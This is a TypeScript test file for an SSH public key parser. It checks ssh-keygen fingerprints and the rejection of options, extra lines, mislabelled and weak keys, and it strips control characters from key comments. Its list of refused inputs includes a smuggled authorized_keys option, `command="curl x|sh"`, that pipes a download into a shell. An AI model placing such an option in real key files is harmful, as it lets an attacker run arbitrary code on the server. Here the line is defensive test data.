// The SSH key parser: what reaches sshd is rebuilt from the blob (no options, no second line), the
// fingerprint is ssh-keygen's, and weak or mislabelled keys are refused.
import { describe, expect, it } from 'vitest';
import { parseSshKey } from './ssh-keys.ts';

// Made with ssh-keygen; the fingerprints are what `ssh-keygen -lf` printed for them.
const ED = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPAfdkDqMGL+Hs2vMilqtBLsUvxaD9GyjYjHB7cwWVGP';
const ED_FP = 'SHA256:dYdOUazYz1EJNS52RVaGhRsdEYIzR7zGwuBJMTXSqu8';
const RSA2048 =
  'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC9M/s+EHlTe5s29ifi3CiHlDgUvNZjrBtFfOjdVctl6nH2/MNEkDPDtzMSu9HTbuaNSCxhf+IGZ446VNx5dh3+1EzXeK2IsAiwhrjss23cR6q8NPmEP9dbdDbYS9laLU6FL5f5/63MRPsLH9IC02U5Zxc5nE7NHES5GbroplPqEQVJSYy/6C+ZUsYTClX41toGbvpfMV/jR32zUeL+lcSP4F6v/kc7+/6UHr7OnWjiq+Y6y8rQTKXjXd0vzwav/S/muonTvZtSm1rVT8f66QmzD/g5QO6PoRuHjJJcNArJ9KVqshSrs/Rq78LN1f73Jemod/7RnnDK80h4rW+qKmUR';
const RSA2048_FP = 'SHA256:Jtlu7oLD9UMUx0BgtuZNBwcN2thGrQv4Xc7VopkF5JE';
const RSA1024 =
  'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC1I42rO/JrEVE9UxWPI5+eLylJfRJaSEoQ8nX74SrwGqU/N/ej0DKEIc+SdmsINx5msJFL7KWBlcMCdaqdtUAXtC1/yXofwg7d9jV+gsf4f9jC7R6r1J7t0F8r7PBHoSWDLJldeE3w0jsPHsRI9QrpnX3cgB3MAFdambXeJamdAQ==';

describe('parseSshKey', () => {
  it('keeps type and base64 only, with the fingerprint ssh-keygen prints', () => {
    const k = parseSshKey(`${ED} me@laptop`, 5);
    expect(k).toMatchObject({ type: 'ssh-ed25519', fingerprint: ED_FP, comment: 'me@laptop', addedAt: 5 });
    expect(k.key).toBe(ED);
    expect(parseSshKey(RSA2048, 0).fingerprint).toBe(RSA2048_FP);
  });

  it('refuses authorized_keys options, a second line, a mislabelled blob, junk and weak RSA', () => {
    const refused = [
      `command="curl x|sh" ${ED}`,
      `from="*" ${ED}`,
      `${ED}\nssh-ed25519 AAAA`,
      ED.replace('ssh-ed25519', 'ssh-rsa'),
      'ssh-ed25519 not*base64',
      'ssh-ed25519 AAAA',
      '',
      RSA1024,
    ];
    for (const t of refused) expect(() => parseSshKey(t, 0), t.slice(0, 40)).toThrow(/./);
  });

  it('drops control characters from the comment', () => {
    expect(parseSshKey(`${ED} a\u001b[31mb`, 0).comment).toBe('a[31mb');
  });
});
